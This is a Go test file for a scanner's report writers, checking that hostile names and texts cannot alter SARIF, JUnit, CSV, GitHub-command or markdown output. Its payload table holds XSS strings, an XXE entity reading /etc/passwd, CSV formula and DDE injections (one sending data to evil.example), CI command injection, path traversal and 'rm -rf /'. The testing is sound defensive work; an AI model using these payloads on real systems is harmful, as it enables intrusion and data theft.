package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"net/url"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"plugvet/scanner"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/renderer/html"
)

// payloads are names and texts that whoever made a plugin, a rule or a report
// may have written to get through a format.
var payloads = map[string]string{
	"markup":           `<script>alert(1)</script><img src=x onerror=alert(1)>&amp;<!-- -->]]></failure><testcase/>`,
	"attributes":       `" onmouseover="alert(1)' x='`,
	"XML":              `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
	"formula":          `=HYPERLINK("http://evil.example/"&A1,"x")`,
	"formula with +":   `+1+cmd|' /C calc'!A0`,
	"formula with -":   `-1+1`,
	"formula with @":   `@SUM(1+1)`,
	"formula with tab": "\t=1+1",
	"formula with CR":  "\r=1+1",
	"wide formula":     "＝1+1",
	"field":            `a","b";c` + "\r\nnext,row",
	"command":          "x\n::error title=all is well::PASS\n::stop-commands::x\n##[error]x",
	"command's end":    "::set-output name=x::%0A%0D%25,file=/etc/passwd:line=1",
	"old command":      "##[command]rm -rf /",
	"ANSI":             "\x1b[2J\x1b]0;title\x07\x1b[31mPASS",
	"C1":               "\u009b2J\u0085",
	"bidi":             "abc\u202etxt.exe\u2066\u2069\u200b\u200d\ufeff",
	"lines":            "a\nb\r\nc\u2028d\u2029e\x0bf\x0cg",
	"NUL":              "a\x00b",
	"no UTF-8":         "a\xff\xfe\xc3(b",
	"table":            "a | b \\| c \\\\| d\n| --- |",
	"code":             "`` ` ``` </code> ```` `",
	"emphasis":         "**a** __b__ ~~c~~ # d\n# e\n- f\n1. g\n> h\n---\n===",
	"link":             "[a](javascript:alert(1)) ![b](http://evil.example/x.png) <http://evil.example> [c]: http://evil.example",
	"autolink":         "https://evil.example/x www.evil.example evil@evil.example ftp://evil.example WWW.EVIL.EXAMPLE",
	"mention":          "@everyone @org/team #1 GH-1 org/repo#2 0123456789abcdef0123456789abcdef01234567",
	"math":             "$x$ $$y$$ $`z`$ :smile: [^1] - [x] a",
	"details":          "</summary></details><details open>",
	"path":             "../../../../etc/passwd",
	"absolute":         "//evil.example/a:b?c#d",
	"scheme":           "javascript:alert(1)",
	"entity":           "&#60;b&#62; &lt;b&gt; &colon;",
	"JSON":             `","x":{"y":"\u0000\`,
	"long":             strings.Repeat("long ", 1000),
	"long word":        strings.Repeat("w", 5000),
	"placeholder":      "{0} {1} {{2}}",
	"only dots":        "..",
}

// hostile is a report every text of which is s, beside what must be a word of
// ours for a report to be one.
func hostile(s string) *scanner.Report {
	r := &scanner.Report{}
	fill(reflect.ValueOf(r).Elem(), s)
	r.Schema = scanner.Schema
	r.Run.FailOn = scanner.High
	r.Summary.Verdict, r.Summary.Exit = "incomplete", scanner.ExitIncomplete
	for i := range r.Plugins {
		p := &r.Plugins[i]
		p.Verdict, p.Severity, p.VerdictSeverity = scanner.Modified, scanner.Critical, scanner.High
		for j := range p.Findings {
			p.Findings[j].Severity, p.Findings[j].Declared, p.Findings[j].Noted = scanner.Critical, j > 0, false
		}
	}
	return r
}

// fill sets every text to s, makes two elements in every list and one in every map.
func fill(v reflect.Value, s string) {
	if v.Type() == reflect.TypeFor[time.Time]() {
		v.Set(reflect.ValueOf(time.Date(2026, 11, 23, 9, 0, 0, 0, time.UTC)))
		return
	}
	switch v.Kind() {
	case reflect.String:
		v.SetString(s)
	case reflect.Int, reflect.Int64:
		v.SetInt(3)
	case reflect.Bool:
		v.SetBool(true)
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		fill(v.Elem(), s)
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 2, 2))
		fill(v.Index(0), s)
		fill(v.Index(1), s)
	case reflect.Map:
		v.Set(reflect.MakeMap(v.Type()))
		v.SetMapIndex(reflect.ValueOf(s).Convert(v.Type().Key()), reflect.ValueOf(3))
	case reflect.Struct:
		for i := range v.NumField() {
			if f := v.Type().Field(i); f.IsExported() && f.Tag.Get("json") != "-" {
				fill(v.Field(i), s)
			}
		}
	}
}

// anatomy takes a document of a format apart with a real parser. Its parts are
// what the format gives a meaning to; names and texts are none.
var anatomy = map[string]func(t *testing.T, text []byte) []string{
	"sarif":    jsonAnatomy,
	"gitlab":   jsonAnatomy,
	"ocsf":     jsonAnatomy,
	"junit":    xmlAnatomy,
	"csv":      csvAnatomy,
	"github":   commandAnatomy,
	"markdown": markdownAnatomy,
	"text":     lineAnatomy,
}

// A hostile text changes nothing but itself: the document has the same parts as
// with a harmless one, and nothing in it acts on a terminal.
func TestHostileNamesStayNames(t *testing.T) {
	for format, parts := range anatomy {
		want := parts(t, written(t, format, hostile("harmless"), Options{}))
		if len(want) < 5 {
			t.Fatalf("%s: only %v", format, want)
		}
		for name, payload := range payloads {
			t.Run(format+"/"+name, func(t *testing.T) {
				text := written(t, format, hostile(payload), Options{})
				if !utf8.Valid(text) {
					t.Error("is no UTF-8")
				}
				for i, r := range string(text) {
					if unseen(r) && r != '\n' && !(format == "csv" && r == '\r') {
						t.Fatalf("%U at byte %d", r, i)
					}
				}
				got := parts(t, text)
				if !slices.Equal(got, want) {
					t.Errorf("has other parts:\n%q\n%q\n%.3000s", got, want, text)
				}
			})
		}
	}
}

// jsonAnatomy lists the keys, with the place of each, of one value or of many.
func jsonAnatomy(t *testing.T, text []byte) []string {
	t.Helper()
	var parts []string
	var walk func(place string, value any)
	walk = func(place string, value any) {
		switch v := value.(type) {
		case map[string]any:
			for key, inner := range v {
				walk(place+"."+key, inner)
			}
		case []any:
			for i, inner := range v {
				walk(fmt.Sprintf("%s[%d]", place, i), inner)
			}
		case string:
			if strings.Contains(place, ".help.") {
				v = strings.ReplaceAll(v, "\n", "") // our paragraphs
			}
			if strings.ContainsFunc(v, unseen) {
				t.Errorf("%s is %q", place, v)
			}
			if strings.HasSuffix(place, ".message.text") && regexp.MustCompile(`\]\(|\{[0-9]`).MatchString(v) {
				t.Errorf("%s has a link or placeholder: %q", place, v)
			}
			if strings.HasSuffix(place, ".uri") && !strings.HasPrefix(place, ".runs[0].originalUriBaseIds") {
				u, err := url.Parse(v)
				if err != nil || u.IsAbs() || u.Host != "" || u.RawQuery != "" || u.Fragment != "" || strings.HasPrefix(v, "/") || slices.Contains(strings.Split(u.Path, "/"), "..") {
					t.Errorf("%s leads elsewhere: %q", place, v)
				}
			}
		}
		parts = append(parts, place)
	}
	dec := json.NewDecoder(bytes.NewReader(text))
	for {
		var value any
		if err := dec.Decode(&value); errors.Is(err, io.EOF) {
			break
		} else if err != nil {
			t.Fatal(err)
		}
		walk("", value)
	}
	slices.Sort(parts)
	return parts
}

func xmlAnatomy(t *testing.T, text []byte) []string {
	t.Helper()
	var parts []string
	dec := xml.NewDecoder(bytes.NewReader(text))
	for {
		token, err := dec.Token()
		if errors.Is(err, io.EOF) {
			return parts
		} else if err != nil {
			t.Fatal(err)
		}
		switch e := token.(type) {
		case xml.StartElement:
			parts = append(parts, e.Name.Local)
			for _, a := range e.Attr {
				parts = append(parts, "@"+a.Name.Local)
			}
		case xml.EndElement:
			parts = append(parts, "/"+e.Name.Local)
		case xml.Comment, xml.Directive, xml.ProcInst:
			parts = append(parts, fmt.Sprintf("%T", e))
		}
	}
}

func csvAnatomy(t *testing.T, text []byte) []string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var parts []string
	for _, row := range rows {
		for _, field := range row {
			if field != "" && strings.ContainsAny(field[:1], "=+-@\t\r") || strings.HasPrefix(field, "＝") {
				t.Errorf("a spreadsheet calculates %q", field)
			}
			parts = append(parts, "field")
		}
		parts = append(parts, "row")
	}
	if bytes.Count(text, []byte("\r\n")) != len(rows) || bytes.Count(text, []byte("\n")) != len(rows) {
		t.Error("a field has a line break")
	}
	return parts
}

// commandAnatomy reads lines as a runner does (actions/runner, ActionCommand.cs):
// a line that begins with "::" is a command with properties, up to the next "::",
// and one that has "##[" anywhere is a command of the old kind.
func commandAnatomy(t *testing.T, text []byte) []string {
	t.Helper()
	undo := strings.NewReplacer("%0D", "\r", "%0A", "\n", "%3A", ":", "%2C", ",", "%25", "%")
	var parts []string
	for line := range strings.Lines(string(text)) {
		line = strings.TrimSuffix(line, "\n")
		rest, ok := strings.CutPrefix(strings.TrimSpace(line), "::")
		if !ok {
			if strings.Contains(line, "##[") {
				t.Errorf("a command of the old kind: %q", line)
			}
			parts = append(parts, "line")
			continue
		}
		head, _, ok := strings.Cut(rest, "::")
		if !ok {
			t.Errorf("no end of the command: %q", line)
		}
		name, properties, _ := strings.Cut(head, " ")
		parts = append(parts, name)
		for property := range strings.SplitSeq(properties, ",") {
			key, value, _ := strings.Cut(property, "=")
			if strings.ContainsFunc(undo.Replace(value), unseen) {
				t.Errorf("%s is %q", key, value)
			}
			parts = append(parts, "@"+key)
		}
	}
	return parts
}

// markdownAnatomy lists the elements of the page that GitHub would show, with
// all that its dialect makes of text, and no filter between.
func markdownAnatomy(t *testing.T, text []byte) []string {
	t.Helper()
	if len(text) > maxComment {
		t.Errorf("%d bytes are too many for a comment", len(text))
	}
	var page bytes.Buffer
	md := goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote, extension.DefinitionList), goldmark.WithRendererOptions(html.WithUnsafe()))
	if err := md.Convert(text, &page); err != nil {
		t.Fatal(err)
	}
	dec := xml.NewDecoder(&page)
	dec.Strict, dec.AutoClose, dec.Entity = false, xml.HTMLAutoClose, xml.HTMLEntity
	var parts []string
	code := 0
	for {
		token, err := dec.Token()
		if errors.Is(err, io.EOF) {
			break
		} else if err != nil {
			t.Fatal(err)
		}
		switch e := token.(type) {
		case xml.StartElement:
			if e.Name.Local == "code" {
				code++
				continue // an "@" in a text is one
			}
			parts = append(parts, e.Name.Local)
			for _, a := range e.Attr {
				parts = append(parts, "@"+a.Name.Local)
			}
		case xml.EndElement:
			if e.Name.Local == "code" {
				code--
				continue
			}
			parts = append(parts, "/"+e.Name.Local)
		case xml.CharData:
			if code == 0 && strings.ContainsAny(string(e), "@#") {
				t.Errorf("mentions somebody or something: %q", e)
			}
		default:
			parts = append(parts, fmt.Sprintf("%T", e))
		}
	}
	for _, part := range parts {
		if slices.Contains([]string{"a", "img", "script", "input", "del", "sup"}, part) {
			t.Errorf("there is a <%s>", part)
		}
	}
	return parts
}

func lineAnatomy(_ *testing.T, text []byte) []string {
	return strings.Split(strings.Repeat("line ", bytes.Count(text, []byte("\n"))), " ")
}

func TestMarkdownKeepsItsWords(t *testing.T) {
	for _, payload := range []string{"@scope/name", "a|b", "x_y*z", "<b>", "www.example.org/a", "GH-1", `back\slash`, "a&amp;b"} {
		var page bytes.Buffer
		if err := goldmark.New(goldmark.WithExtensions(extension.GFM)).Convert([]byte("| h |\n| --- |\n| "+markdownText(payload)+" |\n"), &page); err != nil {
			t.Fatal(err)
		}
		dec := xml.NewDecoder(&page)
		var text strings.Builder
		for {
			token, err := dec.Token()
			if err != nil {
				break
			}
			if data, ok := token.(xml.CharData); ok {
				text.Write(data)
			}
		}
		if got := strings.Fields(text.String()); len(got) != 2 || got[1] != payload {
			t.Errorf("%q reads %q", payload, got)
		}
	}
}

func TestMarkdownSaysWhatDoesNotFit(t *testing.T) {
	r := example(t)
	for range 1000 {
		r.Plugins = append(r.Plugins, r.Plugins[1])
	}
	for _, limit := range []int{0, 20000, 200000} {
		text := string(written(t, "markdown", r, Options{MaxMarkdown: limit}))
		if limit == 0 {
			limit = maxComment
		}
		if len(text) > limit || len(text) < limit/2 {
			t.Errorf("%d bytes of %d", len(text), limit)
		}
		if !strings.Contains(text, "does not fit here") || !strings.HasSuffix(text, "permission denied</code>\n") {
			t.Errorf("nothing says that something is left out: …%s", text[len(text)-500:])
		}
	}
}

// unseen reports whether a reader does not see r as it is.
func unseen(r rune) bool { return unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) }
